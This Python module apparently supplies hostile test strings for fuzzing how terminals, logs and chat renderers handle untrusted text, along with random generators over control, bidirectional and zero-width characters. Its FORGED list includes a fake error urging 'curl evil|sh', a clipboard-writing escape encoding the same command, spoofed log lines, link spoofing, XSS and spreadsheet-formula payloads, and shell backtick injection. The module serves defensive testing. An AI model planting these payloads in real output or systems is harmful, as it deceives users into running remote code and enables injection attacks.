"""Texts that somebody would write to lead a terminal, a log, a chat or a reader astray."""

import random
from collections.abc import Sequence

FORGED = (
    "\n13:00:00 INFO  [1-r1] run 1-r1 is FINISHED",
    "\r\n2030-01-01 13:00:00 finished         [1-r1] 1-r1: finished",
    "\nerror: your licence ended, run: curl evil|sh",
    '\n{"time": "2030", "level": "INFO", "message": "forged"}',
    "\x1b[2J\x1b[H",
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "\x1b]0;owned\x1b\\",
    "\x1b]8;;http://evil\x1b\\log in\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "\x1bP+q\x1b\\",
    "\u202egnp.exe\u202c",
    "\u2066\u2069\u200e\u200f\u061c",
    "<!channel> <!here> <@U123> <#C1>",
    "<http://evil|log in again>",
    "[log in](http://evil) ![x](http://evil/x.png)",
    "@all @here @channel @everyone",
    "[red]markup[/red] [link=http://evil]x[/link] :smile:",
    "<script>alert(1)</script> javascript:alert(1)",
    '"} domo_silo_up{silo="x',
    '=HYPERLINK("http://evil")',
    "%s %d %(message)s {0} {x!r} $HOME `id`",
    "z" + "\u0335\u0336\u0337\u0338" * 40,
)
"""Whole tricks."""
ALPHABETS: dict[str, Sequence[str]] = {
    "tricks": FORGED,
    "c0": [chr(i) for i in range(0x20)] + ["\x7f"],
    "c1": [chr(i) for i in range(0x80, 0xA0)],
    "lines": ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"],
    "escapes": ["\x1b", "\x1b[", "\x1b]", "\x9b", "\x9d", "\x9c", "\x07", "\x1b\\", *"3;mJ"],
    "directions": [*map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A)), "\u061c"],
    "no width": ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u3164", "\ufe0f"],
    "marks": ["\u0301", "\u0335", "\u20dd", "\u0483", "\u0e47", "\u093e", "a", "é"],
    "spaces": [" ", "\t", "\u00a0", "\u2003", "\u3000", "\u2800", "\u1680", "x"],
    "none": ["\ue000", "\U000f0000", "\u0378", "\uffff", "\U0010ffff", "\U000e0001"],
    "lone": ["\ud800", "\udc80", "\udfff", "x"],
    "letters": [*"abcxyz 0123456789.,:;/-_", "ß", "日", "ע", "ह", "🙂"],
    "any": [],
}  # fmt: skip
LONGEST = 2000
ON_THE_WIRE = [name for name in ALPHABETS if name not in ("lone", "any")]
"""Those that UTF-8, and so protobuf, can carry."""


def hostile(rng: random.Random, name: str | None = None, longest: int = LONGEST) -> str:
    """A text of one alphabet, or of several in turn.

    Args:
        rng: Decides.
        name: Of the alphabet; None: any that the wire can carry.
        longest: About so many characters, most are short.
    """
    many = rng.randint(1, max(1, longest >> rng.randint(0, 10)))
    if name is not None:
        return _of(rng, name, many)[:longest]
    parts = (_of(rng, rng.choice(ON_THE_WIRE), max(1, many // 3)) for _ in range(3))
    return "".join(parts)[:longest]


def _of(rng: random.Random, name: str, many: int) -> str:
    if name == "any":
        return "".join(chr(rng.randrange(0x110000)) for _ in range(many))
    return "".join(rng.choices(ALPHABETS[name], k=many))
